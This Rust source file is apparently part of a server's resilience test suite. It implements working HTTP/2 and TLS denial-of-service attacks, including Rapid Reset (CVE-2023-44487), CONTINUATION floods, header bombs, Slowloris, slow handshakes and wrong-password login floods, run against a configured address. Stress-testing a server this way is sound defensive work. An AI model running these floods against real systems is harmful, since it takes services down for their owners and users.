//! The attacks: each is a loop of one connection, until the server ends it or time is up.

use std::{
    io::{self, Read, Write},
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use edgesync_tests::begin;
use rustls::{ClientConfig, StreamOwned};

use super::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, bomb, call, frame, greeting, login,
};

/// Octets that are written at a time.
const PIECE: usize = 32 * 1024;
/// A write that the server does not take for so long has failed.
const STUCK: Duration = Duration::from_millis(500);
/// The beginning of a record of TLS (RFC 8446 section 5.1).
const HANDSHAKE: &[u8] = &[22, 3, 1];
/// Sockets of one thread that hold on to what they have.
const HELD: usize = 500;

/// What is done to the server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Streams are opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// A header block never ends (CVE-2024-24549 and its like).
    Continuation,
    /// A stream of empty DATA frames.
    EmptyData,
    /// PINGs, whose answers nobody reads.
    Ping,
    /// SETTINGS, whose answers nobody reads.
    Settings,
    /// Windows that are opened by one octet each.
    WindowUpdate,
    /// Small header blocks that become large.
    HeaderBomb,
    /// Connections that say nothing whole.
    Slowloris,
    /// Connections that begin to begin with TLS.
    SlowHandshake,
    /// Connections that greet and then ask for nothing.
    Idle,
    /// Calls of which a whole message never comes.
    SlowCalls,
    /// Whole calls, as many as the server takes.
    Calls,
    /// Logins with a wrong password, a thousand at once.
    Logins,
}

impl Attack {
    /// All that need nothing of the server's configuration.
    pub const ALL: [Self; 11] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Ping,
        Self::Settings,
        Self::WindowUpdate,
        Self::HeaderBomb,
        Self::Slowloris,
        Self::Idle,
        Self::SlowCalls,
        Self::Calls,
    ];

    /// Those that are others where all is encrypted.
    pub const OVER_TLS: [Self; 6] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::SlowHandshake,
        Self::Idle,
        Self::Calls,
    ];

    /// Goes on until `stop`; counts connections and octets.
    pub fn run(self, server: &Server, stop: &AtomicBool, done: &Done) {
        while !stop.load(Ordering::Relaxed) {
            match self {
                Self::Slowloris | Self::SlowHandshake | Self::Idle => self.hold(server, stop, done),
                // The server ends it; the next begins.
                _ => drop(self.flood(server, stop, done)),
            }
            // A server that lets nobody in is not asked in a tight loop.
            std::thread::sleep(Duration::from_millis(1));
        }
    }

    /// What comes before the flood.
    fn opening(self) -> Vec<u8> {
        let mut octets = greeting();
        match self {
            Self::Continuation => frame(&mut octets, HEADERS, 0, 1, &call()),
            Self::EmptyData => frame(&mut octets, HEADERS, END_HEADERS, 1, &call()),
            _ => {}
        }
        octets
    }

    /// A piece of the flood; `stream` is the next stream's number.
    fn piece(self, stream: &mut u32) -> Vec<u8> {
        let mut octets = Vec::with_capacity(PIECE + 1_024);
        let mut next = || std::mem::replace(stream, stream.wrapping_add(2));
        while octets.len() < PIECE {
            match self {
                Self::RapidReset => {
                    let stream = next();
                    frame(&mut octets, HEADERS, END_HEADERS | END_STREAM, stream, &call());
                    frame(&mut octets, RST_STREAM, 0, stream, &CANCEL);
                }
                Self::Continuation => {
                    // A literal that is not kept, name and value of one octet.
                    let block = [0x00, 1, b'x', 1, b'y'].repeat(1_000);
                    frame(&mut octets, CONTINUATION, 0, 1, &block);
                }
                Self::EmptyData => frame(&mut octets, DATA, 0, 1, &[]),
                Self::Ping => frame(&mut octets, PING, 0, 0, &[7; 8]),
                // INITIAL_WINDOW_SIZE, which has the server look at each stream.
                Self::Settings => frame(&mut octets, SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
                Self::WindowUpdate => frame(&mut octets, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
                Self::HeaderBomb => {
                    frame(&mut octets, HEADERS, END_HEADERS | END_STREAM, next(), &bomb(4_000));
                }
                Self::SlowCalls => {
                    let stream = next();
                    frame(&mut octets, HEADERS, END_HEADERS, stream, &call());
                    frame(&mut octets, DATA, 0, stream, &[0, 0, 0, 255, 255, 0]);
                }
                Self::Calls => {
                    let stream = next();
                    frame(&mut octets, HEADERS, END_HEADERS, stream, &call());
                    frame(&mut octets, DATA, END_STREAM, stream, &[0; 5]);
                }
                Self::Logins => {
                    let stream = next();
                    frame(&mut octets, HEADERS, END_HEADERS, stream, &login());
                    frame(&mut octets, DATA, END_STREAM, stream, &[0; 5]);
                }
                Self::Slowloris | Self::SlowHandshake | Self::Idle => break,
            }
        }
        octets
    }

    fn flood(self, server: &Server, stop: &AtomicBool, done: &Done) -> io::Result<()> {
        let mut socket = server.connect(done)?;
        socket.write_all(&self.opening())?;
        let reads = !matches!(self, Self::Ping | Self::Settings);
        let (mut stream, mut answers) = (1, vec![0; PIECE]);
        while !stop.load(Ordering::Relaxed) {
            let piece = self.piece(&mut stream);
            socket.write_all(&piece)?;
            done.octets.fetch_add(piece.len() as u64, Ordering::Relaxed);
            if reads {
                match socket.read(&mut answers) {
                    Ok(0) => return Ok(()),
                    Err(error) if error.kind() != io::ErrorKind::WouldBlock => return Err(error),
                    _ => {}
                }
            }
        }
        Ok(())
    }

    /// Holds many connections open, whatever becomes of others.
    fn hold(self, server: &Server, stop: &AtomicBool, done: &Done) {
        let mut held: Vec<Socket> = Vec::new();
        let greeting = greeting();
        let said = match self {
            Self::Idle => &greeting,
            Self::SlowHandshake => HANDSHAKE,
            _ => greeting.get(..5).unwrap_or_default(),
        };
        let mut looked = Instant::now();
        while !stop.load(Ordering::Relaxed) {
            if held.len() < HELD {
                held.extend(self.one_more(server, said, done));
            }
            if looked.elapsed() > Duration::from_millis(200) {
                looked = Instant::now();
                held.retain_mut(|socket| !is_closed(socket));
                done.held.fetch_max(held.len() as u64, Ordering::Relaxed);
            }
        }
    }

    fn one_more(self, server: &Server, said: &[u8], done: &Done) -> io::Result<Socket> {
        let mut socket = match self {
            Self::SlowHandshake => Box::new(server.plain(done)?),
            _ => server.connect(done)?,
        };
        socket.write_all(said)?;
        Ok(socket)
    }
}

/// What an attack has done.
#[derive(Debug, Default)]
pub struct Done {
    pub connections: AtomicU64,
    pub octets: AtomicU64,
    /// Connections of one thread that were open at once, at the most.
    pub held: AtomicU64,
}

impl Done {
    /// True if there was more than connections.
    pub fn has_attacked(&self) -> bool {
        [&self.octets, &self.held].iter().any(|count| count.load(Ordering::Relaxed) > 0)
    }
}

/// What is attacked.
#[derive(Clone)]
pub struct Server {
    pub address: SocketAddr,
    /// None: nothing is encrypted.
    pub tls: Option<Arc<ClientConfig>>,
}

/// A connection.
trait Stream: Read + Write {}
impl<S: Read + Write> Stream for S {}
type Socket = Box<dyn Stream>;

impl Server {
    fn plain(&self, done: &Done) -> io::Result<TcpStream> {
        let socket = TcpStream::connect_timeout(&self.address, STUCK)?;
        done.connections.fetch_add(1, Ordering::Relaxed);
        socket.set_write_timeout(Some(STUCK))?;
        socket.set_read_timeout(Some(Duration::from_millis(1)))?;
        Ok(socket)
    }

    fn connect(&self, done: &Done) -> io::Result<Socket> {
        let mut socket = self.plain(done)?;
        let Some(tls) = &self.tls else { return Ok(Box::new(socket)) };
        let mut client = begin(tls);
        let patience = socket.read_timeout()?;
        socket.set_read_timeout(Some(STUCK))?;
        while client.is_handshaking() {
            client.complete_io(&mut socket)?;
        }
        socket.set_read_timeout(patience)?;
        Ok(Box::new(StreamOwned::new(client, socket)))
    }
}

fn is_closed(socket: &mut Socket) -> bool {
    match socket.read(&mut [0; 4_096]) {
        Ok(0) => true,
        Err(error) => error.kind() != io::ErrorKind::WouldBlock,
        Ok(_) => false,
    }
}
